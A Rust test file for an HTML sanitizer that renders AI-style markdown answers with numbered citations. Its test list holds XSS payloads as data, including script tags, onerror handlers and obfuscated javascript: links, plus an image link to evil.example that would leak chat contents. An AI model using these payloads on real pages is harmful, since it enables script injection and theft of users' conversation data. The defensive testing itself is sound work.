//! Hostile answers, taken apart by a reader of HTML that knows nothing but what may be there.

use proptest::prelude::*;

use super::*;

/// All that may be in a rendered answer: elements, and their attributes.
const MAY: [(&str, &[&str]); 27] = [
    ("p", &[]),
    ("h3", &[]),
    ("h4", &[]),
    ("h5", &[]),
    ("h6", &[]),
    ("ul", &[]),
    ("ol", &["start"]),
    ("li", &[]),
    ("em", &[]),
    ("strong", &[]),
    ("del", &[]),
    ("code", &["class"]),
    ("pre", &[]),
    ("blockquote", &[]),
    ("hr", &[]),
    ("br", &[]),
    ("sup", &[]),
    ("a", &["href"]),
    ("table", &[]),
    ("thead", &[]),
    ("tbody", &[]),
    ("tr", &[]),
    ("th", &["style"]),
    ("td", &["style"]),
    ("input", &["disabled", "type", "checked"]),
    ("div", &[]),
    ("span", &[]),
];

fn cite(number: i32) -> Option<String> {
    (number <= 3).then(|| format!("#s{number}"))
}

/// Takes a page apart as a browser would begin to, and refuses whatever is not in [`MAY`].
pub(crate) fn assert_harmless(html: &str) {
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        rest = &rest[start + 1..];
        let end = rest.find('>').unwrap_or_else(|| panic!("a tag without an end: {html}"));
        let tag = rest[..end].trim_start_matches('/').trim_end_matches('/').trim();
        rest = &rest[end + 1..];
        let (name, mut attributes) = tag.split_once(char::is_whitespace).unwrap_or((tag, ""));
        let may = MAY.iter().find(|(known, _)| *known == name);
        let (_, may) = may.unwrap_or_else(|| panic!("the element {name:?} in {html}"));
        while !attributes.trim().is_empty() {
            attributes = attributes.trim_start();
            let end = attributes.find(['=', ' ']).unwrap_or(attributes.len());
            let attribute = &attributes[..end];
            assert!(may.contains(&attribute), "the attribute {attribute:?} of {name} in {html}");
            attributes = &attributes[end..];
            if let Some(value) = attributes.strip_prefix("=\"") {
                let end = value.find('"').unwrap_or_else(|| panic!("an open quote in {html}"));
                match attribute {
                    "href" => assert!(is_own(&value[..end]), "the address {:?} in {html}", &value[..end]),
                    "style" => assert!(value[..end].starts_with("text-align: "), "{html}"),
                    _ => {}
                }
                attributes = &value[end + 1..];
            }
        }
    }
}

#[test]
fn nothing_foreign_is_left() {
    for hostile in [
        "<script>alert(1)</script>",
        "a <script src=//evil.example/x.js></script> b",
        "<img src=x onerror=alert(1)>",
        "![pixel](https://evil.example/pixel.png?chat=secret)",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](&#106;avascript:alert(1))",
        "[click](https://evil.example/?q=secret \"title\")",
        "[click](//evil.example)",
        "[click](/\\evil.example)",
        "[click](\\\\evil.example)",
        "[click](data:text/html,<script>alert(1)</script>)",
        "<https://evil.example>",
        "<javascript:alert(1)>",
        "<a@evil.example>",
        "[1]: https://evil.example\n\nIt is so [1], and [so][1].",
        "</style><script>alert(1)</script>",
        "<svg onload=alert(1)><a xlink:href=\"javascript:alert(1)\">",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x>]]>",
        "# <b onclick=alert(1)>x</b> {#id onclick=alert(1)}",
        "```\"><script>alert(1)</script>\ncode\n```",
        "```js onclick=x\ncode\n```",
        "| a | b |\n|---|:-:|\n| <img src=x> | [x](javascript:a) |",
        "[![x](https://evil.example/a.png)](https://evil.example)",
        "[a [1] b](https://evil.example)",
        "[<img src=x>](#a)",
        "`<script>` and ``[1]``",
        "&lt;script&gt; &#60;script&#62;",
        "<a href=\"https://evil.example\">x</a>",
        "<div\n\nonclick=alert(1)>",
        "[x](#\"onclick=alert(1))",
        "[x](/a\"onmouseover=\"alert(1))",
        "[^1]\n\n[^1]: <script>",
        "$$<script>$$",
    ] {
        let html = html(hostile, &cite);
        assert_harmless(&html);
        assert!(!html.contains("<img") && !html.contains("<script"), "{html}");
    }
}

#[test]
fn numbers_in_brackets_lead_to_their_sources() {
    for (markdown, expected) in [
        ("So [1].", "<p>So <sup>[<a href=\"#s1\">1</a>]</sup>.</p>\n"),
        ("So [1][2].", "<p>So <sup>[<a href=\"#s1\">1</a>]</sup><sup>[<a href=\"#s2\">2</a>]</sup>.</p>\n"),
        ("So [1, 3].", "<p>So <sup>[<a href=\"#s1\">1</a>, <a href=\"#s3\">3</a>]</sup>.</p>\n"),
        ("Not [4], [x], [0] or a[1", "<p>Not [4], [x], [0] or a[1</p>\n"),
        ("`a[1]`", "<p><code>a[1]</code></p>\n"),
        ("[1]: https://evil.example\n\nSo [1].", "<p>So <sup>[<a href=\"#s1\">1</a>]</sup>.</p>\n"),
        ("**b** [1] <i>", "<p><strong>b</strong> <sup>[<a href=\"#s1\">1</a>]</sup> &lt;i&gt;</p>\n"),
        ("[here](/guide/a.md)", "<p><a href=\"/guide/a.md\">here</a></p>\n"),
        ("[there](https://example.org/a)", "<p>there (https://example.org/a)</p>\n"),
        ("# One", "<h3>One</h3>\n"),
    ] {
        assert_eq!(html(markdown, &cite), expected, "{markdown}");
    }
}

proptest! {
    #[test]
    fn whatever_is_answered_is_harmless(markdown in "[\\[\\]()<>a1 /:\"'#!`\n*&;={}|-]{0,80}") {
        assert_harmless(&html(&markdown, &cite));
    }

    #[test]
    fn any_text_is_harmless(markdown in any::<String>()) {
        assert_harmless(&html(&markdown, &cite));
    }
}
